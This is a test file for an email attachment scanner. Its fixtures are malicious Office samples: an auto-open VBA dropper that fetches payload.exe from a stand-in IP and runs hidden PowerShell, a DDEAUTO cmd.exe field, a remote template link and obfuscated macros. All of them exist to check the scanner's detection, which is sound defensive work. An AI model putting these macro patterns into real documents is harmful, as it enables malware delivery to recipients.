import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as CFB from 'cfb';
import { analyzeAttachments } from './index.js';
import { buildCompoundFile, buildDocm, buildVbaContainer, buildZip, codesOf, encode, mailWith } from './test-fixtures.js';
import { findVbaStorages, readVbaProject } from './vba-project.js';

const DROPPER = [
  'Attribute VB_Name = "ThisDocument"',
  'Sub AutoOpen()',
  '  Dim url As String',
  '  url = "http://203.0.113.7/payload.exe"',
  '  URLDownloadToFile 0, url, Environ("TEMP") & "\\a.exe", 0, 0',
  '  Set sh = CreateObject("WScript.Shell")',
  '  sh.Run "powershell -nop -w hidden -c calc"',
  'End Sub',
  // Repetition makes the compressor emit copy tokens, so decompression is really exercised.
  ...Array.from({ length: 40 }, (_, i) => `' padding line ${i % 4} padding line padding line`),
].join('\r\n');

test('a Word document with a VBA macro is read back module by module', () => {
  const doc = buildVbaContainer([{ name: 'ThisDocument', source: DROPPER }, { name: 'Module2', source: 'Sub Helper()\r\nEnd Sub' }], 'Macros/', { WordDocument: new Uint8Array(64) });
  const container = CFB.read(doc, { type: 'buffer' });
  const storages = findVbaStorages(container);
  assert.equal(storages.length, 1);
  const project = readVbaProject(container, storages[0]!, 1024 * 1024);
  assert.deepEqual(project.problems, []);
  assert.deepEqual(project.modules.map((m) => m.name), ['ThisDocument', 'Module2']);
  assert.equal(project.modules[0]!.source, DROPPER);
});

test('an OLE .doc with an auto-exec downloader is flagged with macro, auto-exec and download/exec reasons', () => {
  const doc = buildVbaContainer([{ name: 'ThisDocument', source: DROPPER }], 'Macros/', { WordDocument: new Uint8Array(64) });
  const findings = analyzeAttachments(mailWith([{ filename: 'Invoice_2291.doc', content: doc, contentType: 'application/msword' }]));
  const codes = codesOf(findings);
  assert.ok(codes.includes('attachment.macro'), codes.join());
  assert.ok(codes.includes('attachment.macro_autoexec'));
  assert.ok(codes.includes('attachment.macro_download_exec'));
  const autoExec = findings.reasons.find((r) => r.code === 'attachment.macro_autoexec');
  assert.match(autoExec!.summary, /AutoOpen/u);
  const downloader = findings.reasons.find((r) => r.code === 'attachment.macro_download_exec');
  assert.match(downloader!.summary, /URLDownloadToFile/u);
  assert.match(downloader!.summary, /WScript\.Shell/u);
  assert.match(downloader!.summary, /PowerShell/u);
  assert.deepEqual(downloader!.source, { kind: 'attachment', filename: 'Invoice_2291.doc', index: 0 });
  assert.ok(findings.urls.includes('http://203.0.113.7/payload.exe'));
});

test('an OOXML .docm carries its macros in word/vbaProject.bin', () => {
  const vba = buildVbaContainer([{ name: 'ThisDocument', source: 'Private Sub Document_Open()\r\n  Shell "cmd.exe /c whoami"\r\nEnd Sub' }]);
  const findings = analyzeAttachments(mailWith([{ filename: 'report.docm', content: buildDocm(vba) }]));
  const codes = codesOf(findings);
  assert.ok(codes.includes('attachment.macro'), codes.join());
  assert.ok(codes.includes('attachment.macro_autoexec'));
  assert.ok(codes.includes('attachment.macro_download_exec'));
  // Parts of an Office document are not reported as archive members.
  assert.ok(!codes.includes('attachment.archive_contents'));
});

test('documents without macros raise no macro reason', () => {
  const doc = buildCompoundFile({ WordDocument: encode('Hello, this is a plain document.'), '\u0001CompObj': new Uint8Array(20) });
  const docx = buildDocm(undefined);
  const findings = analyzeAttachments(mailWith([{ filename: 'letter.doc', content: doc }, { filename: 'letter.docx', content: docx }]));
  assert.deepEqual(codesOf(findings).filter((c) => c.startsWith('attachment.macro') || c === 'attachment.type_mismatch'), []);
});

test('obfuscated macros are reported as such', () => {
  const chr = Array.from({ length: 30 }, (_, i) => `Chr(${100 + i})`).join(' & ');
  const vba = buildVbaContainer([{ name: 'Module1', source: `Sub Workbook_Open()\r\n x = ${chr}\r\n y = StrReverse("exe.clac")\r\nEnd Sub` }], '_VBA_PROJECT_CUR/');
  const findings = analyzeAttachments(mailWith([{ filename: 'book.xls', content: vba }]));
  const codes = codesOf(findings);
  assert.ok(codes.includes('attachment.macro_obfuscated'), codes.join());
  assert.ok(codes.includes('attachment.macro_autoexec'));
});

test('Excel 4.0 macro sheets, DDE fields and remote templates are flagged in OOXML', () => {
  const xlsm = buildZip({
    '[Content_Types].xml': encode('<Types/>'),
    'xl/workbook.xml': encode('<workbook/>'),
    'xl/macrosheets/sheet1.xml': encode('<xm:macrosheet/>'),
  });
  const docx = buildDocm(undefined, {
    'word/document.xml': encode('<w:document><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p></w:body></w:document>'),
    'word/_rels/settings.xml.rels': encode('<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.9/template.dotm" TargetMode="External"/></Relationships>'),
  });
  const findings = analyzeAttachments(mailWith([{ filename: 'data.xlsm', content: xlsm }, { filename: 'memo.docx', content: docx }]));
  const codes = codesOf(findings);
  assert.ok(codes.includes('attachment.xlm_macro'), codes.join());
  assert.ok(codes.includes('attachment.dde'));
  assert.ok(codes.includes('attachment.office_remote_template'));
  assert.ok(findings.urls.includes('http://198.51.100.9/template.dotm'));
});

test('an .xls Workbook stream with a hidden Excel 4.0 macro sheet is flagged', () => {
  const boundSheet = (state: number, type: number, name: string): number[] => {
    const body = [0, 0, 0, 0, state, type, name.length, 0, ...Array.from(name, (c) => c.charCodeAt(0))];
    return [0x85, 0x00, body.length, 0x00, ...body];
  };
  const workbook = Uint8Array.from([0x09, 0x08, 0x00, 0x00, ...boundSheet(0, 0, 'Sheet1'), ...boundSheet(1, 1, 'Macro1'), 0x0a, 0x00, 0x00, 0x00]);
  const findings = analyzeAttachments(mailWith([{ filename: 'old.xls', content: buildCompoundFile({ Workbook: workbook }) }]));
  const reason = findings.reasons.find((r) => r.code === 'attachment.xlm_macro');
  assert.ok(reason !== undefined, codesOf(findings).join());
  assert.match(reason.summary, /hidden/u);
});

test('a corrupt compound file becomes a reason, not an exception', () => {
  const doc = buildVbaContainer([{ name: 'ThisDocument', source: DROPPER }], 'Macros/');
  const broken = doc.slice(0, 700);
  const findings = analyzeAttachments(mailWith([{ filename: 'broken.doc', content: broken }]));
  assert.ok(findings.reasons.length > 0);
  assert.ok(codesOf(findings).some((c) => c === 'attachment.malformed_ole' || c === 'attachment.unparseable' || c === 'attachment.macro_unreadable'), codesOf(findings).join());
});
